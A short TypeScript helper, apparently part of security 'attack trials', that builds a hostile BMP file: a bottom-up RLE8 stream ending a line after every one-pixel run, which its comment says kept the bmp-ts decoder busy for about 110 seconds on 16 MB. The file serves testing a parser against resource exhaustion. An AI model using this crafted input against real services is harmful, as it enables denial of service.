/** The hostile BMP of the attack trials (not a test file): a bottom-up RLE8 stream that ends every line. */

/** A bottom-up BI_RLE8 file of `width` x `height` (256-entry palette) with the given RLE stream. */
export function rle8File(width: number, height: number, stream: Uint8Array): Buffer {
  const header = Buffer.alloc(14 + 40 + 256 * 4);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(header.length + stream.length, 2);
  header.writeUInt32LE(header.length, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(width, 18);
  header.writeInt32LE(height, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(8, 28);
  header.writeUInt32LE(1, 30);
  return Buffer.concat([header, stream]);
}

/**
 * `bytes` of one-pixel runs, each followed by an end of line: bmp-ts walked below the image with it until the
 * input ended (~110 s for 16 MB). The first run outside a W x H image is at byte 4 * H.
 */
export function endEveryLine(bytes: number): Uint8Array {
  const stream = new Uint8Array(bytes);
  for (let i = 0; i + 4 <= bytes; i += 4) stream.set([1, 7, 0, 0], i);
  return stream;
}
